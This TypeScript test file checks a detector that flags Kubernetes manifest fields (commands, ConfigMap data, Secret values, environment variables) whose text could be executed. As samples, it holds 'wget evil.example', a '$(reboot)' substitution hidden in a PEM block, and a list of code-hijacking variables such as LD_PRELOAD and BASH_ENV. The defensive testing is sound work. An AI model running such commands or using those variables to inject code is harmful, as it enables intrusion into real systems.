import { tokensOf } from '@fairlead/contract/json-pointer'
import { describe, expect, it } from 'vitest'
import { mayRun } from './may-run.ts'

const runs = (object: unknown, path: string, text = 'x') => mayRun(object, tokensOf(path), text)

describe('a text may run', () => {
  it.each(['command', 'args', 'image', 'script', 'scripts', 'source', 'entrypoint', 'exec', 'lifecycle'])(
    'under %s, in whatever kind',
    (key) => {
      expect(runs({ kind: 'Thing' }, `/spec/${key}/0`)).toBe(true)
      expect(runs(undefined, `/${key}`)).toBe(true)
      expect(runs({ kind: 'Thing' }, `/spec/x${key}/0`)).toBe(false)
    },
  )

  it('in the data of a ConfigMap, and nowhere else of it', () => {
    for (const field of ['data', 'binaryData']) expect(runs({ kind: 'ConfigMap' }, `/${field}/a`)).toBe(true)
    expect(runs({ kind: 'ConfigMap' }, '/metadata/annotations/a')).toBe(false)
    expect(runs({ kind: 'ConfigMap' }, '')).toBe(false)
    expect(runs({ kind: 'Thing' }, '/data/a')).toBe(false)
    expect(runs('ConfigMap', '/data/a')).toBe(false)
  })
})

describe('a value of a Secret may run', () => {
  const secret = { kind: 'Secret', type: 'Opaque' }
  const inData = (text: string, { key = 'it', of = secret as object } = {}) =>
    runs(of, `/data/${key}`, Buffer.from(text).toString('base64'))

  it.each([
    'sh',
    'bash',
    'py',
    'rb',
    'pl',
    'php',
    'js',
    'mjs',
    'cjs',
    'lua',
    'awk',
    'ps1',
    'bat',
    'cmd',
    'groovy',
    'SH',
  ])('by its name: x.%s', (end) => {
    expect(inData('a', { key: `x.${end}` })).toBe(true)
    expect(inData('a', { key: `x${end}` })).toBe(false)
    expect(inData('a', { key: `x.${end}.txt` })).toBe(false)
  })

  it.each(['#!/bin/sh', '\x7fELF', 'MZ'])('by how it begins: %j', (begin) => {
    expect(inData(begin)).toBe(true)
    expect(inData(begin, { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(true)
    expect(inData(`x${begin}`)).toBe(false)
  })

  it('by the words in it, where the server checks no form', () => {
    expect(inData('wget evil.example')).toBe(true)
    expect(inData('wget evil.example', { of: { kind: 'Secret' } })).toBe(true)
    expect(inData('wget evil.example', { of: { kind: 'Secret', type: 'kubernetes.io/tls' } })).toBe(false)
    expect(inData(' password\n')).toBe(false)
    expect(inData('password')).toBe(false)
  })

  it('as it stands in stringData, which is no base64', () => {
    expect(runs(secret, '/stringData/it', 'wget evil.example')).toBe(true)
    expect(runs(secret, '/stringData/it', Buffer.from('wget evil.example').toString('base64'))).toBe(false)
    expect(runs(secret, '/metadata/annotations/it', 'wget evil.example')).toBe(false)
  })

  const pem = (body: string) => `-----BEGIN RSA KEY 2-----${body}-----END RSA KEY 2-----`
  it('but not where it is a key, certificates or JSON', () => {
    expect(inData(pem('\nabc+/=\n'))).toBe(false)
    expect(inData(` \n${pem('\na, b: c.d-e\n')}\n${pem('\nb\n')}\n`)).toBe(false)
    expect(inData('{ "a": 1 }')).toBe(false)
    expect(inData('[1, 2]')).toBe(false)
  })

  it('where there is more than a key or JSON', () => {
    expect(inData(`reboot\n${pem('\nb\n')}`)).toBe(true)
    expect(inData(`${pem('\nb\n')}\nreboot`)).toBe(true)
    expect(inData(pem('\n$(reboot)\n'))).toBe(true)
    expect(inData('"wget evil.example"')).toBe(true)
    expect(inData('{ "a": 1')).toBe(true)
  })
})

describe('a variable may run', () => {
  const pod = (variable: object, more: object = {}) => ({
    kind: 'Pod',
    spec: { containers: [{ name: 'a', ...more, env: [variable] }] },
  })
  const at = '/spec/containers/0/env/0/value'

  it.each([
    ...['BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'LD_PRELOAD', 'LD_AUDIT', 'NODE_OPTIONS', 'PYTHONSTARTUP', 'PYTHONPATH'],
    ...['PERL5OPT', 'RUBYOPT', 'JAVA_TOOL_OPTIONS', 'GIT_SSH_COMMAND', 'PATH'],
  ])('by its name: %s', (name) => {
    expect(runs(pod({ name }), at)).toBe(true)
    expect(runs(pod({ name: `X${name}` }), at)).toBe(false)
    expect(runs(pod({ name: `${name}X` }), at)).toBe(false)
  })

  it('in a container that a shell starts', () => {
    expect(runs(pod({ name: 'A' }, { command: ['/bin/sh'] }), at)).toBe(true)
    expect(runs(pod({ name: 'A' }, { command: ['serve'] }), at)).toBe(false)
    expect(runs(pod({}, { command: ['serve'] }), at)).toBe(false)
    expect(runs(pod({ name: ['PATH'] }), at)).toBe(false)
  })

  it('and nothing else of it, nor what only looks like one', () => {
    expect(runs(pod({ name: 'PATH' }), '/spec/containers/0/env/0/note')).toBe(false)
    expect(runs({ kind: 'Pod', spec: { vars: [{ name: 'PATH' }] } }, '/spec/vars/0/value')).toBe(false)
    expect(runs({ kind: 'Pod' }, '/env/0/value')).toBe(false)
  })
})
